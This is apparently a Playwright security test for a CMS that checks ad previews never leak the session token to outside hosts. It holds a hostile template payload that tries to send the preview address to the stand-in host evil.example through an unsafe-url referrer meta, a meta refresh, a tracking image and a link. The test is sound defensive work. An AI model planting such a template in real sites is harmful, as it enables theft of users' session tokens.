import { expect, request, test } from '@playwright/test';
import { ADMIN_PASSWORD } from '../playwright.config';
import { api, login, rowAction } from './helpers';

const OUTSIDE = 'https://evil.example';

/**
 * An editor's detail template that tries to hand whoever previews a row to an outside host (issue 21): a referrer
 * meta asking for the full address, a refresh there, and a link and an image with their own referrer policy.
 */
const EVIL_DETAIL = `{% layout 'layout' %}{% block content %}<meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="1;url=${OUTSIDE}/refresh">
<h1>{{ item.title }}</h1>
<img src="${OUTSIDE}/pixel.png" referrerpolicy="unsafe-url" alt="外部图片">
<p><a id="outside" href="${OUTSIDE}/link" referrerpolicy="unsafe-url">外部链接</a></p>{% endblock %}`;

test('a preview opens without the session token in any address or Referer, whatever the template', async ({
  page,
  context,
  baseURL,
}) => {
  test.setTimeout(120_000);
  const seen: { url: string; referer?: string }[] = [];
  context.on('request', async (r) => {
    seen.push({ url: r.url(), referer: (await r.allHeaders().catch(() => r.headers())).referer });
  });
  const outside: { url: string; referer?: string }[] = [];
  await context.route(`${OUTSIDE}/**`, async (route) => {
    outside.push({ url: route.request().url(), referer: route.request().headers().referer });
    await route.fulfill({ status: 200, contentType: 'text/html', body: '<p>outside</p>' });
  });

  // The editor writes the site's detail template (through the API, as the 模板管理 screen would).
  const editor = await request.newContext({ baseURL });
  const signedIn = await (
    await editor.post('/system-api/sys/login', { data: { username: 'editor', password: ADMIN_PASSWORD } })
  ).json();
  expect(signedIn.success, signedIn.message).toBe(true);
  const headers = { 'X-Access-Token': signedIn.result.token as string };
  const added = await (
    await editor.post('/system-api/cms/template/add', {
      headers,
      data: { code: 'ad-detail', name: '广告详情（e2e）', type: 'detail', source: EVIL_DETAIL },
    })
  ).json();
  expect(added.success, added.message).toBe(true);

  try {
    await login(page);
    const token = await page.evaluate(() => JSON.parse(localStorage.getItem('Access-Token') ?? '{}').value as string);
    await api<string>(page, 'POST', '/cms/ad/add', { title: '令牌测试广告', position: 'home_banner' });
    await page.goto('/cms/site/ad');
    const popup = page.waitForEvent('popup');
    await rowAction(page.getByRole('row').filter({ hasText: '令牌测试广告' }), '预览');
    const preview = await popup;
    await expect(preview.getByRole('heading', { name: '令牌测试广告' })).toBeVisible();
    // The refresh and the referrer meta are gone: the page stays, and asks the outside host for nothing.
    await preview.waitForTimeout(1_500);
    expect(outside).toEqual([]);
    await expect(preview.getByRole('heading', { name: '令牌测试广告' })).toBeVisible();
    await expect(preview).toHaveURL(/\/cms\/ad\/preview\?id=[^&]+&ticket=/);
    expect(await preview.locator('meta[name="referrer"], meta[http-equiv]').count()).toBe(0);
    // Following a link out: the outside host learns nothing of the preview's address.
    await preview.locator('#outside').click();
    await expect.poll(() => outside.length).toBe(1);
    expect(outside[0].url).toBe(`${OUTSIDE}/link`);
    expect(outside[0].referer).toBeUndefined();

    // The ticket opened the window once: opening its address again is refused.
    const again = await page.request.get(seen.find((r) => r.url.includes('ticket='))?.url ?? '');
    expect(again.status()).toBe(401);

    expect(seen.length).toBeGreaterThan(0);
    for (const r of seen) {
      expect(r.url, r.url).not.toContain(token);
      expect(r.url, r.url).not.toMatch(/[?&]token=/);
      expect(r.referer ?? '', r.url).not.toContain(token);
      expect(r.referer ?? '', r.url).not.toContain('ticket=');
    }
  } finally {
    const list = await (await editor.get('/system-api/cms/template/list?code=ad-detail', { headers })).json();
    for (const row of list.result?.records ?? []) {
      await editor.delete(`/system-api/cms/template/delete?id=${row.id}`, { headers });
    }
    await editor.dispose();
  }
});
